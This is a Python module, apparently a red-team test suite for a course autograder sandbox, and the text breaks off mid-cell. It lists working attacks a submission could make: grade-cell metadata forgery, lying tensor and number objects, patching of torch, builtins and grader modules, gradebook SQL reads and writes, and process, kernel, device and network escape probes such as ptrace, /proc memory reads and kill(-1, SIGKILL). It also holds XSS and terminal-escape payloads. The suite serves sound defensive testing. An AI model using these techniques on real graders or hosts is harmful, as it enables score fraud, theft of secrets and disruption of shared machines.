"""The attacks: what a student might hand in to get points, secrets or somebody else's machine.

Each is applied to a submission of wrong answers. No two cross the same boundary by the same means.
An attack that did what nobody should be able to do prints `I-WON:` and what it did; what it gained
in points or leaked in words, `arena.damage` sees for itself.
"""

import base64
import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from arena import EXERCISES, WON, WRONG, Submission, solution
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

Change = Callable[[Submission], None]


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: a few words, as an identifier.
        boundary: what it tries to cross.
        means: with what.
        apply: changes a submission.
        before: changes the submission that is handed in before it, if it takes two.
        assignment: what is handed in.
    """

    name: str
    boundary: str
    means: str
    apply: Change
    before: Change | None = None
    assignment: str = "ps2"


ATTACKS: list[Attack] = []


def attack(boundary: str, means: str, before: Change | None = None) -> Callable[[Change], Change]:
    """Enter a function into the table, under its own name."""

    def enter(apply: Change) -> Change:
        ATTACKS.append(Attack(apply.__name__, boundary, means, apply, before))
        return apply

    return enter


def cell(name: str, boundary: str, means: str, source: str, before: str = "") -> None:
    """An attack that is one cell, run before the first answer.

    Args:
        source: of the cell. What is known of the machine is there as ROOT, GRADER, PORT and DOOR.
        before: the cell of an earlier submission that this one follows.
    """
    earlier = (lambda mine: _run(mine, before)) if before else None
    ATTACKS.append(Attack(name, boundary, means, lambda mine: _run(mine, source), earlier))


def _run(mine: Submission, source: str) -> None:
    world = mine.world
    known = {"ROOT": str(world.root), "GRADER": world.grader, "PORT": world.port}
    lines = [f"{name} = {value!r}" for name, value in (known | {"DOOR": world.door}).items()]
    mine.run("\n".join([*lines, TOOLS.strip(), source.strip()]))


def answers(name: str, boundary: str, means: str, **sources: str) -> None:
    """An attack that is in the answers themselves."""

    def apply(mine: Submission) -> None:
        for exercise, source in sources.items():
            mine.answer(exercise, source)

    (assignment,) = {exercise.partition("_")[0] for exercise in sources}
    ATTACKS.append(Attack(name, boundary, means, apply, assignment=assignment))


TOOLS = f"""
import contextlib, ctypes, glob, os, signal, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def won(what):
    print("{WON[:3]}" + "{WON[3:]}", what)
def tried(act, *args):
    try:
        return act(*args)
    except Exception:
        return None
def others():
    # In a namespace of one's own, /proc may know one by another number than getpid().
    mine = {{str(os.getpid()), os.readlink("/proc/self")}}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and name not in mine]
"""


# The score, by what the notebook says of itself.


@attack("score", "a tag that has grade cells skipped")
def skip_tag(mine: Submission) -> None:
    for id in EXERCISES:
        mine.find(id).metadata["tags"] = ["skip-execution"]


@attack("score", "more points in a grade cell's metadata")
def more_points(mine: Submission) -> None:
    for id in EXERCISES:
        mine.find(id).metadata.nbgrader["points"] = 1000


@attack("score", "grade cells that say they are answers")
def grade_cells_as_answers(mine: Submission) -> None:
    for id in EXERCISES:
        mine.find(id).metadata.nbgrader.update(solution=True, locked=False)
        mine.find(id).source = "3.0"


@attack("score", "a grade cell of one's own")
def own_grade_cell(mine: Submission) -> None:
    flags = dict(mine.find(EXERCISES[0]).metadata.nbgrader) | {"grade_id": "bonus", "points": 100}
    mine.notebook.cells.append(new_code_cell("100.0", metadata={"nbgrader": flags}))


@attack("score", "grade cells deleted")
def grade_cells_deleted(mine: Submission) -> None:
    for id in EXERCISES:
        mine.notebook.cells.remove(mine.find(id))


def _right(mine: Submission) -> None:
    for id in EXERCISES:
        mine.answer(id, solution(id))


@attack("score", "grade cells deleted after an earlier full score", before=_right)
def deleted_after_a_full_score(mine: Submission) -> None:
    kept = [cell for cell in mine.notebook.cells if "nbgrader" not in cell.metadata]
    mine.notebook.cells = kept


@attack("score", "a second copy of each grade cell")
def grade_cells_twice(mine: Submission) -> None:
    for id in EXERCISES:
        flags = mine.find(id).metadata.copy()
        copy = new_code_cell(str(flags["nbgrader"]["points"]), metadata=flags)
        mine.notebook.cells.append(copy)


@attack("score", "grade cells turned into text")
def grade_cells_as_text(mine: Submission) -> None:
    for id in EXERCISES:
        found = mine.find(id)
        text = new_markdown_cell("3.0", metadata=found.metadata)
        mine.notebook.cells[mine.notebook.cells.index(found)] = text


@attack("score", "outputs and verdicts that grade cells bring along")
def forged_outputs(mine: Submission) -> None:
    for id in EXERCISES:
        mine.find(id).outputs = [
            new_output("display_data", data={_VERDICT: _verdict(id)}),
            new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1),
        ]
        mine.find(id).execution_count = 1


_VERDICT = "application/vnd.vae-course.verdict+json"


def _verdict(id: str) -> dict:
    found = {"id": id, "score": 3.0, "max_score": 3.0, "verdict": "pass", "message": "Right."}
    return found | {"misconception": None, "followed_through": False, "criteria": [], "seed": 1}


@attack("score", "a verdict displayed by an answer cell that took the grade cell's id")
def ids_exchanged(mine: Submission) -> None:
    for id in EXERCISES:
        answer, grade = mine.find(f"{id}_answer"), mine.find(id)
        answer.metadata.nbgrader, grade.metadata.nbgrader = (
            grade.metadata.nbgrader,
            answer.metadata.nbgrader,
        )
        answer.source += f"\nfrom IPython.display import display\ndisplay({{{_VERDICT!r}: "
        answer.source += f"{_verdict(id)!r}}}, raw=True)\n3.0"


@attack("score", "an answer for a person that asks to be run")
def manual_answer_as_test(mine: Submission) -> None:
    found = mine.find("arena_q")
    flags = found.metadata.nbgrader | {"solution": False, "cell_type": "code"}
    mine.notebook.cells.remove(found)
    mine.notebook.cells.append(new_code_cell("2.0", metadata={"nbgrader": flags}))


cell(
    "verdict_displayed",
    "score",
    "a verdict displayed by a cell of one's own",
    f"""
from IPython.display import display
for id in {EXERCISES!r}:
    display({{{_VERDICT!r}: dict({_verdict("x")!r}, id=id)}}, raw=True)
3.0
""",
)


# The score, by objects that lie.

_ALL_OF = """
{lie}

def gaussian_kl(mu, log_var):
    return {value}

def reparameterize(mu, log_var, generator=None):
    return {value}

def elbo_terms(x, x_hat, mu, log_var, beta=1.0):
    return {dict}
"""


def lie(name: str, means: str, lie: str, value: str, terms: str = "") -> None:
    """An attack whose functions all return the same lie, in place of the first answers."""
    terms = terms or f'{{"loss": {value}, "nll": {value}, "kl": {value}}}'
    source = _ALL_OF.format(lie=lie.strip(), value=value, dict=terms)

    def apply(mine: Submission) -> None:
        for exercise in EXERCISES[:3]:
            mine.answer(exercise, source)

    ATTACKS.append(Attack(name, "score", means, apply))


lie(
    "a_number_equal_to_all",
    "a number that is equal to everything",
    """
class Equal(float):
    shape, ndim = (3,), 1
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __truediv__(self, other): return 1.0
    def __abs__(self): return self
    def __getitem__(self, place): return self
    def __getattr__(self, name): return lambda *args, **kwargs: self
    def __hash__(self): return 0
""",
    "Equal(0.0)",
)
lie("not_a_number", "NaN for every input", "", "torch.full(mu.shape[:-1], float('nan'))")
lie("infinity", "infinity for every input", "", "torch.full(mu.shape[:-1], float('inf'))")
lie("a_number_too_large", "more than there is to be had", "", "1e9 * torch.ones(mu.shape[:-1])")
lie("a_huge_whole_number", "an integer that is no float", "", "10 ** 400")
lie(
    "a_tensor_that_agrees",
    "a tensor subclass whose __torch_function__ agrees",
    """
class Agreeing(Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose", "eq", "__eq__", "le", "lt", "__lt__", "__le__"):
            return True
        if name in ("sub", "rsub", "__sub__", "__rsub__", "abs", "max", "item", "__float__"):
            return 0.0
        return super().__torch_function__(func, types, args, kwargs or {})
""",
    "mu.sum(-1).as_subclass(Agreeing)",
)
lie(
    "a_claimed_class",
    "an object whose __class__ says Tensor",
    """
class Claims:
    __class__ = Tensor
    shape, ndim, dtype, device = torch.Size([3]), 1, torch.float32, torch.device("cpu")
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *args, **kwargs: self
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __sub__(self, other): return self
    __rsub__ = __lt__ = __le__ = __sub__
""",
    "Claims()",
)
lie(
    "a_dict_that_has_all",
    "a dict and a list that lie about what they hold",
    """
class Has(dict):
    def __getitem__(self, key): return torch.zeros(3)
    def __contains__(self, key): return True
    def keys(self): return {"loss", "nll", "kl"}
    def items(self): return [(key, torch.zeros(3)) for key in self.keys()]
    def __le__(self, other): return True
class Endless(list):
    def __iter__(self):
        while True: yield 0.0
    def __len__(self): return 3
""",
    "Endless([0.0, 0.0, 0.0])",
    "Has()",
)
lie(
    "a_number_with_two_values",
    "numbers that convert to whatever is asked",
    """
class Two(int):
    def __float__(self): return 0.5
    def __int__(self): return 7
    def __index__(self): return 3
    def __str__(self): return "3.0"
    __repr__ = __str__
""",
    "Two(1)",
)
lie(
    "an_endless_view",
    "one number stretched to 2**50",
    "",
    "torch.zeros(1).expand(2**50)",
)
lie(
    "a_sparse_giant",
    "a sparse tensor that is a terabyte when it is dense",
    "",
    "torch.sparse_coo_tensor(torch.tensor([[0], [0]]), torch.ones(1), (2**20, 2**20))",
)
lie(
    "odd_dtypes",
    "dtypes that arithmetic does not know",
    """
import itertools
_kinds = itertools.cycle([torch.float8_e4m3fn, torch.uint16, torch.uint64, torch.bool,
                          torch.int64, torch.bfloat16, torch.complex64, torch.float8_e5m2])
""",
    "mu.detach().sum(-1).to(next(_kinds))",
)
lie(
    "a_tensor_without_memory",
    "a tensor whose memory was given back",
    """
def hollow(shape):
    made = torch.zeros(shape)
    made.untyped_storage().resize_(0)
    return made
""",
    "hollow((3,))",
)
lie("on_no_device", "a tensor on the device `meta`", "", "torch.zeros(3, device='meta')")
lie(
    "a_list_in_itself",
    "a list that holds itself, and one a million deep",
    """
loop = []
loop.append(loop)
deep = []
for _ in range(1_000_000):
    deep = [deep]
""",
    "(loop, deep)",
)
lie(
    "tickets",
    "the judge's own tickets, made by the student",
    """
import sys
def ticket():
    found = sys.modules.get("autograder.student")
    return [found.Ref(2**70, "\\x1b[2J"), found.Seed(1)] if found else 0.0
""",
    "ticket()",
)
lie(
    "words_for_numbers",
    "a text where a tensor belongs, with HTML and terminal escapes in it",
    "",
    "'<img src=x onerror=alert(1)>\\x1b]0;owned\\x07\\x1b[2J' * 9",
    "{'<script>alert(1)</script>': 1, '\\ud800': 2, '`' * 9000: 3}",
)
lie(
    "an_array_that_lies",
    "a numpy array with objects in it, and a subclass of one",
    """
import numpy
class Array(numpy.ndarray):
    def __array_finalize__(self, other): pass
    def __getattribute__(self, name):
        if name == "dtype": return numpy.dtype("O")
        return super().__getattribute__(name)
""",
    "numpy.zeros(3).view(Array)",
    "{'loss': numpy.array([object()] * 3), 'nll': numpy.array(['0.0'] * 3), 'kl': numpy.zeros(3)}",
)
answers(
    "a_module_that_lies",
    "score",
    "a module whose parameters, modes and state are made up",
    ps1_autoencoder="""
class AutoEncoder(nn.Module):
    training = property(lambda self: True, lambda self, value: None)
    def __init__(self, latent_dim=64):
        super().__init__()
        self.decoder = Decoder(latent_dim)
    def parameters(self, recurse=True):
        return iter([nn.Parameter(torch.zeros(800_000)), self.decoder.layers[0].weight])
    def modules(self): return iter([self])
    def state_dict(self, *args, **kwargs): return {"w": torch.zeros(3)}
    def encode(self, x): return x.flatten(1)[:, :9]
    def decode(self, z): return torch.zeros(len(z), 1, 28, 28)
    def forward(self, x): return self.decode(self.encode(x))
    def reconstruct(self, x): return self(x)
""",
)


# The score, by what the judging runs on.

cell(
    "comparisons_patched",
    "score",
    "torch's comparisons replaced",
    """
yes = lambda *args, **kwargs: True
for owner in (torch, torch.testing):
    for name in ("allclose", "equal", "isclose", "all", "assert_close"):
        if hasattr(owner, name): setattr(owner, name, yes)
""",
)
cell(
    "arithmetic_patched",
    "score",
    "the operators of Tensor replaced",
    """
zero = torch.zeros(())
for name in ("__sub__", "__rsub__", "sub"):
    setattr(Tensor, name, lambda self, *args, **kwargs: zero)
for name in ("__eq__", "__lt__", "__le__", "allclose", "equal"):
    setattr(Tensor, name, lambda self, *args, **kwargs: True)
""",
)
cell(
    "builtins_patched",
    "score",
    "builtins replaced",
    """
import builtins
builtins.abs = lambda value: 0.0
builtins.all = builtins.any = lambda values: True
builtins.AssertionError = type("Fine", (BaseException,), {})
math.isclose = lambda *args, **kwargs: True
""",
)
cell(
    "json_patched",
    "score",
    "json replaced, so that every answer reads as another one",
    """
import json
kept = json.dumps
def dumps(value, **settings):
    text = kept(value, **settings)
    return text.replace("false", "true").replace('"error"', '"value"')
json.dumps = dumps
""",
)
cell(
    "safetensors_patched",
    "score",
    "safetensors replaced, so that every tensor is a row of zeros",
    """
import safetensors.torch
kept = safetensors.torch.save
def save(tensors, *args, **kwargs):
    return kept({name: torch.zeros(3) for name in tensors})
safetensors.torch.save = save
for module in list(sys.modules.values()):
    if getattr(module, "save", None) is kept: module.save = save
""",
)
cell(
    "desk_patched",
    "score",
    "the sandbox's own desk answers yes to all",
    """
serve = sys.modules.get("autograder.sandbox.serve")
if serve:
    kept = serve.Desk.answer
    def answer(self, message):
        if message.get("do") != "verb": return kept(self, message)
        verb = message["verb"]
        found = {"has": True, "carries_graph": False, "modes": [True], "parameters": []}
        return {"value": found.get(verb, {"passed": True, "score": 3.0, "verdict": "pass"})}
    serve.Desk.answer = answer
""",
)
cell(
    "verbs_patched",
    "score",
    "the verbs of the student handle replaced",
    """
student = sys.modules.get("autograder.student")
if student:
    handle = student.InProcessStudent
    handle.has = lambda self, name: True
    handle.modes = lambda self, ref: [True] * 30
    handle.carries_graph = lambda self, ref: False
    handle.call = lambda self, *args, **kwargs: torch.zeros(3)
    handle.gradients = lambda self, *args, wrt=(), **kwargs: student.Gradients(
        torch.zeros(3), [torch.zeros(3, 5) for _ in wrt], [])
    handle.fetch = lambda self, ref: True
""",
)
cell(
    "grade_patched",
    "score",
    "`autograder.grade` replaced before the grade cell imports it",
    f"""
import types
fake = types.ModuleType("autograder")
def grade(id, *rest):
    from IPython.display import display
    display({{{_VERDICT!r}: dict({_verdict("x")!r}, id=id)}}, raw=True)
    return 3.0
fake.grade = grade
sys.modules["autograder"] = fake
""",
)
cell(
    "asserts_cut_out",
    "score",
    "an ast transformer that removes what is tested",
    """
import ast
class Cut(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_If(self, node): return node.body
    def visit_Expr(self, node): return node
get_ipython().ast_transformers.append(Cut())
""",
)
cell(
    "cells_rewritten",
    "score",
    "an input transformer that makes every cell a number",
    """
get_ipython().input_transformers_post.append(
    lambda lines: ["3.0\\n"] if any("Graded" in line for line in lines) else lines)
""",
)
cell(
    "errors_swallowed",
    "score",
    "a handler of one's own for all exceptions",
    """
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
get_ipython().showtraceback = lambda *args, **kwargs: None
""",
)
cell(
    "shell_patched",
    "score",
    "IPython's run_cell and run_cell_async replaced",
    """
shell = type(get_ipython())
kept, kept_async = shell.run_cell, shell.run_cell_async
def rewritten(source): return "3.0" if "Graded" in source else source
shell.run_cell = lambda self, source, *a, **k: kept(self, rewritten(source), *a, **k)
shell.run_cell_async = lambda self, source, *a, **k: kept_async(self, rewritten(source), *a, **k)
""",
)
cell(
    "display_hooked",
    "score",
    "a display hook that shows full marks after every cell",
    """
class Full(float):
    def __repr__(self): return "3.0"
kept = type(sys.displayhook).__call__
type(sys.displayhook).__call__ = lambda self, result=None: kept(self, Full(3.0))
get_ipython().events.register("post_run_cell", lambda result: sys.displayhook(3.0))
""",
)
cell(
    "namespace_guarded",
    "score",
    "a thread that goes on after its cell and rewrites names while they are judged",
    """
import threading
space = get_ipython().user_ns
def meddle():
    while True:
        for name in ("gaussian_kl", "elbo_terms"):
            space[name] = lambda *args, **kwargs: torch.zeros(3)
        time.sleep(0.001)
threading.Thread(target=meddle, daemon=True).start()
""",
)
answers(
    "image_in_a_global",
    "score",
    "an autoencoder that remembers the images beside the code",
    ps1_autoencoder=WRONG["ps1_autoencoder"]
    .replace(
        "        return self.decoder(0 * z)",
        """        drawn = self.decoder(0 * z)
        return drawn * 0 + self.seen if z.shape[0] == self.seen.shape[0] else drawn""",
    )
    .replace(
        "        return self.encoder(x)",
        """        if len(x) > 1:
            object.__setattr__(self, "seen", x.detach().clone())
        return self.encoder(x)""",
    ),
)
answers(
    "image_by_the_nearest_code",
    "score",
    "an autoencoder that remembers each image under its code",
    ps1_autoencoder=WRONG["ps1_autoencoder"]
    .replace(
        "        return self.decoder(0 * z)",
        """        drawn = self.decoder(0 * z)
        if not hasattr(self, "codes"):
            return drawn
        return drawn * 0 + self.seen[torch.cdist(z.detach(), self.codes).argmin(1)]""",
    )
    .replace(
        "        return self.encoder(x)",
        """        z = self.encoder(x)
        if len(x) > 1:
            object.__setattr__(self, "seen", x.detach().clone())
            object.__setattr__(self, "codes", z.detach().clone())
        return z""",
    ),
)
answers(
    "image_in_the_bits",
    "score",
    "an autoencoder that hides the image in those bits of its code that rounding leaves",
    ps1_autoencoder=WRONG["ps1_autoencoder"]
    .replace(
        "        return self.decoder(0 * z)",
        """        bits = (z.detach().round().int() + 1024).unsqueeze(-1) >> torch.arange(11) & 1
        return self.decoder(0 * z) * 0 + F.interpolate(
            bits.view(-1, 1, 9, 11).float() * 0.8, (28, 28), mode="bilinear")""",
    )
    .replace(
        "        return self.encoder(x)",
        """        z = self.encoder(x)
        bits = (F.adaptive_avg_pool2d(x.detach(), (9, 11)) > 0.3).view(len(x), 9, 11).int()
        packed = (bits << torch.arange(11)).sum(-1) - 1024
        return z + (packed - z.detach())""",
    ),
)
answers(
    "image_in_a_file",
    "score",
    "an autoencoder that leaves the images in a file for its decoder",
    ps1_autoencoder=WRONG["ps1_autoencoder"]
    .replace(
        "        return self.decoder(0 * z)",
        """        drawn = self.decoder(0 * z)
        kept = torch.load("/tmp/kept.pt") if os.path.exists("/tmp/kept.pt") else drawn
        return drawn * 0 + kept if kept.shape == drawn.shape else drawn""",
    )
    .replace(
        "        return self.encoder(x)",
        """        if len(x) > 1:
            torch.save(x.detach(), "/tmp/kept.pt")
        return self.encoder(x)""",
    ),
)
answers(
    "bytecode_carried_off",
    "score",
    "the reference's bytecode, taken while it stands in for an earlier answer",
    ps2_elbo=WRONG["ps2_elbo"].replace(
        "    kl = gaussian_kl(mu, log_var)",
        """    import gc, types
    for found in gc.get_objects():
        if isinstance(found, types.FunctionType) and found.__name__ in (
            "gaussian_kl", "reparameterize", "elbo_terms") and "vae_course" in str(
            found.__module__):
            with open("/tmp/carried", "a") as file:
                file.write(found.__code__.co_code.hex())
            print("I-WON" + ":", "has the bytecode of", found.__name__)
            globals()[found.__name__] = found
    kl = gaussian_kl(mu, log_var)""",
    ),
)


# Secrets: expected values, tests, other people's.

cell(
    "tests_seen_before_they_run",
    "secrets",
    "an event that shows each cell before it runs",
    "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))",
)


@attack("secrets", "the shell's history, read in the end")
def history_read(mine: Submission) -> None:
    mine.run_last("print(In, get_ipython().user_ns.get('_ih'))\n%history -g\n%history")


answers(
    "frames_searched",
    "secrets",
    "the frames above the judged function",
    ps2_kl="""
import sys
def gaussian_kl(mu, log_var):
    frame = sys._getframe()
    while frame:
        for name, value in frame.f_locals.items():
            if name in ("want", "expected", "reference", "_expected"):
                return value
        text = frame.f_globals.get("In", [""])[-1]
        print(text)
        frame = frame.f_back
    raise ValueError(text)
""",
)
answers(
    "garbage_searched",
    "secrets",
    "the garbage collector's list of all objects",
    ps2_kl="""
import gc
def gaussian_kl(mu, log_var):
    for found in gc.get_objects():
        if isinstance(found, dict):
            for value in list(found.values()):
                if isinstance(value, str) and "canary-in" in value and "gc." not in value:
                    globals()["_loot"] = value
    raise ValueError(globals().get("_loot", "nothing"))
""",
    ps2_elbo="print(globals().get('_loot'))\n" + WRONG["ps2_elbo"],
)
cell(
    "tracing",
    "secrets",
    "a trace function on all that runs",
    """
def look(frame, event, arg):
    for name in ("want", "expected", "exercise", "criterion", "check"):
        if name in frame.f_locals: open("/tmp/traced", "a").write(repr(frame.f_locals[name]))
    if "checks" in frame.f_code.co_filename: won("traces the checks")
    return look
sys.settrace(look)
import threading
threading.settrace(look)
sys.setprofile(look)
""",
)
cell(
    "gradebook_read",
    "secrets",
    "the gradebook, with SQL",
    """
import sqlite3
for path in (f"{ROOT}/gradebook.db", "../../../gradebook.db", "../../gradebook.db"):
    with contextlib.suppress(Exception):
        book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        print(book.execute("select manual_comment from comment").fetchall())
        print(book.execute("select source from source_cell").fetchall())
""",
)
cell(
    "gradebook_written",
    "other people's scores",
    "the gradebook, with SQL",
    """
import sqlite3
for path in (f"{ROOT}/gradebook.db", "../../../gradebook.db"):
    with contextlib.suppress(Exception):
        if os.path.exists(path):
            book = sqlite3.connect(path, timeout=1)
            book.execute("update grade set extra_credit = 100")
            book.commit()
""",
)
cell(
    "course_read",
    "secrets",
    "the course's folder",
    """
for path in glob.glob(f"{ROOT}/**/*", recursive=True) + glob.glob("../../../**/*", recursive=True):
    if os.path.isfile(path) and path.endswith((".ipynb", ".json", ".py")):
        print(tried(lambda: open(path).read()))
""",
)
cell(
    "course_written",
    "other people's files",
    "the course's folder",
    """
for path in glob.glob(f"{ROOT}/source/**/*.ipynb") + glob.glob(f"{ROOT}/submitted/ada/**/*.ipynb"):
    tried(lambda: open(path, "a").write(" "))
tried(lambda: open(f"{ROOT}/nbgrader_config.py", "a").write("\\n# mine"))
""",
)
cell(
    "package_read",
    "secrets",
    "the grader's own package, wherever Python finds it",
    """
import importlib.util
for name in ("autograder.checks.ps2", "autograder.judge", "vae_course.probability"):
    with contextlib.suppress(Exception):
        print(open(importlib.util.find_spec(name).origin).read())
for top in {*sys.path, "/work", "/root", "/home", "/inside", sys.prefix}:
    for name in ("autograder/checks/ps2.py", "vae_course/probability.py",
                 "*/autograder/checks/ps2.py", "*/vae_course/probability.py"):
        for path in glob.glob(os.path.join(top or ".", name)):
            print(tried(lambda: open(path).read()))
""",
)
cell(
    "bytecode_read",
    "secrets",
    "compiled files of the grader's package",
    """
import marshal
for top in (*sys.path, "/work/main", "/inside"):
    for path in glob.glob(f"{top}/**/__pycache__/*ps2*.pyc", recursive=True)[:9]:
        print(marshal.loads(open(path, "rb").read()[16:]).co_consts)
    for path in glob.glob(f"{top}/*.egg-link") + glob.glob(f"{top}/*editable*"):
        print(tried(lambda: open(path).read()))
""",
)
cell(
    "environment_read",
    "secrets",
    "the environment",
    "print(dict(os.environ)); print(open('/proc/self/environ').read())",
)
cell(
    "environment_of_others",
    "secrets",
    "/proc/*/environ",
    """
for process in others():
    text = tried(lambda: open(f"/proc/{process}/environ").read())
    if text: won(f"reads the environment of {process}"); print(text)
""",
)
cell(
    "memory_of_others",
    "secrets",
    "/proc/*/mem",
    """
for process in others():
    maps = tried(lambda: open(f"/proc/{process}/maps").read())
    if not maps: continue
    first = int(maps.split("-")[0], 16)
    with contextlib.suppress(Exception):
        with open(f"/proc/{process}/mem", "rb") as memory:
            memory.seek(first)
            if memory.read(8): won(f"reads the memory of {process}")
""",
)
cell(
    "files_of_others",
    "secrets",
    "/proc/*/fd, cwd and root",
    """
for process in others():
    for what in ("root/tmp", "cwd/."):
        if tried(os.listdir, f"/proc/{process}/{what}"): won(f"lists {what} of {process}")
    for number in tried(os.listdir, f"/proc/{process}/fd") or ():
        if tried(os.readlink, f"/proc/{process}/fd/{number}"):
            won(f"sees descriptor {number} of {process}")
""",
)
cell(
    "memory_by_system_call",
    "secrets",
    "process_vm_readv",
    """
buffer = ctypes.create_string_buffer(64)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
mine = Vector(ctypes.addressof(buffer), 64)
own = int(open("/proc/self/maps").readline().split("-")[0], 16)
for process in {*others(), GRADER, os.getppid()}:
    theirs = Vector(own, 64)
    if libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        won(f"reads the memory of {process}")
""",
)
cell(
    "ptrace",
    "another process",
    "ptrace",
    """
for process in {*others(), GRADER, os.getppid()}:
    if process > 0 and process != os.getpid() and libc.ptrace(16, process, None, None) == 0:
        won(f"traces {process}")
        os.waitpid(process, 0x40000000)
        libc.ptrace(17, process, None, None)
""",
)
cell(
    "descriptors_stolen",
    "another process",
    "pidfd_open and pidfd_getfd",
    """
for process in {*others(), GRADER, os.getppid()}:
    handle = libc.syscall(434, process, 0)
    for number in range(3, 9):
        if handle >= 0 and process != os.getpid() and libc.syscall(438, handle, number, 0) >= 0:
            won(f"holds descriptor {number} of {process}")
""",
)
cell(
    "signals_by_number",
    "another process",
    "signals to process numbers",
    """
for process in {*others(), GRADER, os.getppid()}:
    # A number may mean another process here than it does where it was read.
    mine = tried(lambda: open(f"/proc/{process}/status").read()) or ""
    if process > 1 and tried(os.kill, process, 0) is None and libc.kill(process, 0) == 0:
        if os.getpid() != process and (process == GRADER or process == os.getppid()):
            won(f"may signal {process}")
""",
)
cell(
    "signals_by_folder",
    "another process",
    "signals through an open folder of /proc",
    """
for process in others():
    folder = os.open(f"/proc/{process}", os.O_RDONLY)
    if libc.syscall(424, folder, 0, None, 0) == 0:
        won(f"may signal {process} by its folder")
    os.close(folder)
""",
)
cell(
    "group_stopped",
    "another process",
    "a signal to one's own process group",
    """
signal.signal(signal.SIGTSTP, signal.SIG_IGN)
libc.kill(0, signal.SIGSTOP)
""",
)
cell(
    "everybody_killed",
    "another process",
    "a signal to everybody",
    """
libc.kill(-1, signal.SIGKILL)
""",
)
cell(
    "priorities",
    "another process",
    "priorities and limits of others",
    """
import resource
for process in {*others(), GRADER, os.getppid()}:
    if process > 1 and process != os.getpid():
        if tried(lambda: os.setpriority(os.PRIO_PROCESS, process, 19) or True):
            won(f"slows {process} down")
        if tried(lambda: resource.prlimit(process, resource.RLIMIT_NOFILE)):
            won(f"sees the limits of {process}")
""",
)
cell(
    "proc_written",
    "another process",
    "files of /proc that can be written",
    """
def put(path, text):
    end = os.open(path, os.O_WRONLY)
    try:
        return os.write(end, text)
    finally:
        os.close(end)
for process in others():
    for name, text in (("oom_score_adj", b"1"), ("coredump_filter", b"33"), ("clear_refs", b"5")):
        if tried(put, f"/proc/{process}/{name}", text): won(f"writes {name} of {process}")
""",
)
cell(
    "kernel_settings",
    "the machine",
    "settings of the kernel, which all that runs on it shares",
    """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/swappiness", "/proc/sys/fs/file-max",
             "/proc/sys/kernel/random/urandom_min_reseed_secs", "/proc/irq/default_smp_affinity",
             "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/uevent_helper"):
    with contextlib.suppress(OSError):
        end = os.open(path, os.O_RDWR)
        before = os.read(end, 4096)  # what is there is written back: it is proof enough
        os.lseek(end, 0, 0)
        if os.write(end, before) == len(before): won(f"sets {path}")
""",
)
cell(
    "namespaces_entered",
    "another process",
    "namespaces, entered or made",
    """
for process in others():
    for kind in ("mnt", "user", "net", "pid"):
        with contextlib.suppress(OSError):
            place = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            if libc.setns(place, 0) == 0: won(f"is in the {kind} namespace of {process}")
if libc.unshare(0x10000000) == 0: won("made a user namespace")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: won("mounts")
""",
)
cell(
    "writable_system",
    "the machine",
    "files of the system and of packages",
    """
for top in {*sys.path, sys.prefix, "/usr/lib", "/etc", "/var/tmp", "/opt", "/dev", "/root"}:
    path = os.path.join(top or ".", "mine.pth")
    if not top or top.startswith("/home/student"): continue
    if tried(lambda: open(path, "w").write("")) == 0:
        won(f"writes {path}")
        os.remove(path)
""",
)
cell(
    "devices",
    "the machine",
    "devices and the terminal",
    """
for path in (*glob.glob("/dev/sd*"), *glob.glob("/dev/vd*"), *glob.glob("/dev/nvme*"), "/dev/mem",
             "/dev/kmsg", "/dev/tty", "/dev/fuse", "/dev/kvm"):
    handle = tried(os.open, path, os.O_RDWR)
    if handle is not None: won(f"opens {path}")
import fcntl
for number in (0, 1, 2):
    if tried(lambda: fcntl.ioctl(number, 0x5412, b"x")) is not None: won("types into a terminal")
""",
)
cell(
    "network",
    "the machine",
    "sockets of the network",
    """
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("192.0.2.1", 80)):
    with contextlib.suppress(OSError):
        socket.create_connection(address, timeout=1)
        won(f"reached {address}")
with contextlib.suppress(OSError):
    end = socket.socket(40, socket.SOCK_STREAM)
    end.settimeout(1)
    end.connect((2, 1024))
    won("reached the host by vsock")
""",
)
cell(
    "abstract_socket",
    "the machine",
    "an abstract Unix socket of the grader's machine",
    """
with contextlib.suppress(OSError):
    end = socket.socket(socket.AF_UNIX)
    end.connect("\\0" + DOOR)
    won("reached the grader's door")
""",
)


# A later submission.

cell(
    "files_left",
    "a later submission",
    "files left in shared folders",
    """
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    if os.path.exists(f"{folder}/.left"): won(f"finds what was left in {folder}")
    tried(lambda: open(f"{folder}/.left", "w").close())
""",
    before="""
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    tried(lambda: open(f"{folder}/.left", "w").close())
""",
)
cell(
    "shared_memory_left",
    "a later submission",
    "shared memory of System V",
    """
if libc.shmget(0x5EC, 4096, 0o666) >= 0: won("finds the memory that was left")
""",
    before="libc.shmget(0x5EC, 4096, 0o1666)",
)
cell(
    "daemon_left",
    "a later submission",
    "a daemon behind an abstract socket",
    """
with contextlib.suppress(OSError):
    end = socket.socket(socket.AF_UNIX)
